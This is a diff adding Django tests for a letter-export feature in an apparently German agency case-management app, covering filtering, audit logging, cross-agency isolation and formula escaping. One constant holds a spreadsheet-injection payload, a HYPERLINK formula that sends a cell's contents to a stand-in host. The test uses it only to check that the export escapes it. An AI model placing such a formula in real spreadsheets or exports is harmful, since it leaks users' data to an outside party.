@@ -581,6 +581,55 @@ def test_the_recipient_sees_a_letter_only_after_release_and_other_agencies_never
     assert client.get(f"/ergebnisse/schreiben/{letter.pk}/pdf/").status_code == 404
 
 
+FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'
+
+
+def _export_rows(client, fmt, **params):
+    response = client.get(f"/ergebnisse/schreiben/export.{fmt}", params)
+    assert response.status_code == 200
+    if fmt == "csv":
+        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def test_the_letter_export_has_the_letters_of_the_filtered_page(
+    familienkasse_letter, kim, fabian, case, client
+):
+    template = LetterTemplate.objects.get(name="Mitteilung an die Familienkasse")
+    submitted = services.draft_letter(kim, case, fabian.agency, template)
+    submitted = services.submit_letter(kim, submitted, version=submitted.version)
+    _client(client, kim)
+    page = client.get("/ergebnisse/schreiben/", {"status": "zur_freigabe"})
+    assert [letter.pk for letter in page.context["letters"]] == [submitted.pk]
+    assert "/ergebnisse/schreiben/export.csv?status=zur_freigabe" in page.content.decode()
+    rows = _export_rows(client, "csv", status="zur_freigabe")
+    assert rows[0] == ["Betreff", "Prüffall", "Empfängerin", "Status", "verfasst von", "angelegt"]
+    assert [row[:4] for row in rows[1:]] == [
+        [submitted.subject, case.aktenzeichen, str(fabian.agency), "zur Freigabe"]
+    ]
+    assert rows[1][5] == timezone.localdate().strftime("%d.%m.%Y")
+    assert [row[0] for row in _export_rows(client, "xlsx", status="zur_freigabe")[1:]] == [submitted.subject]
+    assert len(_export_rows(client, "csv")) == 3
+    assert client.get("/ergebnisse/schreiben/export.json").status_code == 404
+
+
+def test_the_letter_export_is_audited_escapes_formulas_and_has_no_letter_of_another_agency(
+    familienkasse_letter, kim, kai, fabian, jonas, client
+):
+    letter = services.submit_letter(kim, familienkasse_letter, version=1)
+    letter = services.approve_letter(kai, letter, version=letter.version)
+    Letter.objects.filter(pk=letter.pk).update(subject=FORMULA)
+    _client(client, fabian)
+    rows = _export_rows(client, "csv")
+    assert [row[0] for row in rows[1:]] == ["'" + FORMULA]
+    assert [row[0] for row in _export_rows(client, "xlsx")[1:]] == ["'" + FORMULA]
+    event = _events(AuditAction.EXPORT, "letter_list").filter(actor_username="fabian").first()
+    assert event.purpose == "Export der Übersicht der Schreiben" and event.details["letters"] == [letter.pk]
+    _client(client, jonas)
+    assert _export_rows(client, "csv")[1:] == []
+
+
 def test_a_letter_is_sent_only_after_release(familienkasse_letter, kim, kai):
     with pytest.raises(services.Refused):
         services.mark_sent(kim, familienkasse_letter, version=1)
